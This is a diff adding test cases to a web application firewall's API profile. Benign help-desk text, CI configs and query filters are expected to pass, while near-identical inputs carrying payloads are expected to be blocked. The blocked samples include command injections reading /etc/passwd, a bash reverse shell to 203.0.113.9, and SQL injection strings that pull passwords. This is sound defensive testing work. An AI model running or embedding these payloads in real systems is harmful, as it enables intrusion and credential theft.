@@ -871,3 +871,71 @@ describe('waf API profile: method calls on data in automation templates (family 
     }
   });
 });
+
+describe('waf API profile: help-desk, CI and i18n traffic of held-out 8 (session 7)', () => {
+  const get = (path: string): Init => ({
+    method: 'GET',
+    path: path.split('?')[0] as string,
+    query: path.slice(path.indexOf('?') + 1),
+    headers: { ...ua },
+  });
+
+  test('ampersands, abbreviations, menu paths, numbered steps, CI configs, globs, date ranges, placeholders pass', async () => {
+    for (const doc of [
+      {
+        body: 'Is there a way to insert a signature into every reply automatically? Right now agents copy & paste it from a Google Doc.',
+      },
+      {
+        body: 'Please try this in an incognito window and let me know if it still fails — if so, send us the HAR file (DevTools > Network > right click > Save all as HAR).',
+      },
+      {
+        status:
+          'Sunday bake: sourdough w/ 75% hydration 🍞\n\n1. autolyse 1h\n2. stretch & fold x4\n3. bulk 5h @ 24°C\n\nResult 👇 #breadtok #sourdough',
+      },
+      { title: 'i18n: add sr-Latn & update ru plurals' },
+      {
+        pipeline: {
+          config:
+            'build:\n  stage: build\n  image: docker:27\n  script:\n    - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA .\n    - docker push $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n',
+        },
+      },
+      { key: 'DEPLOY_TOKEN', environment_scope: 'staging/*' },
+      { expression: "country IN ('US', 'CA') AND order_date >= DATE '2026-01-01'" },
+      { filter: "datum.revenue > 0 && datum.region != 'Test'" },
+      { source: { value: "Are you sure you want to delete '{workspace}'? This can't be undone." } },
+    ]) {
+      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
+    }
+    const path = '/embed/dashboards/a2t?p_region=EMEA&p_date_range=2026-01-01--2026-03-31';
+    assert.ok((await run(plain, get(path))).error !== undefined);
+    assert.equal((await run(api, get(path))).error, undefined);
+  });
+
+  test('the same shapes carrying payloads are blocked', async () => {
+    for (const doc of [
+      { body: 'Right now agents copy & whoami from a Google Doc, please advise us today.' },
+      { body: 'Please check the server status today & cat /etc/passwd and tell me' },
+      { body: 'send us the HAR file (DevTools > Network > $(id)) as usual please' },
+      {
+        pipeline: {
+          config:
+            'build:\n  script:\n    - cat /etc/passwd\n    - bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n',
+        },
+      },
+      { pipeline: { config: "stage: x\nname: ' OR 1=1--" } },
+      { environment_scope: "staging' OR 1=1/*" },
+      { environment_scope: '1 union select password from users/*' },
+      {
+        expression: "country IN ('US') AND order_date >= DATE '2026-01-01' UNION SELECT password FROM users",
+      },
+      { filter: "datum.revenue > 0 && '1'='1'" },
+      { value: "Are you sure you want to delete '{workspace}' or '1'='1'? This can't be undone." },
+    ]) {
+      assert.equal((await run(api, post(doc))).error?.status, 403, JSON.stringify(doc));
+    }
+    for (const q of ["2026-01-01'--", '2026-01-01-- or 1=1', "1' or 1=1--2026-03-31"]) {
+      const path = `/embed/dashboards/a2t?p_date_range=${encodeURIComponent(q)}`;
+      assert.equal((await run(api, get(path))).error?.status, 403, q);
+    }
+  });
+});
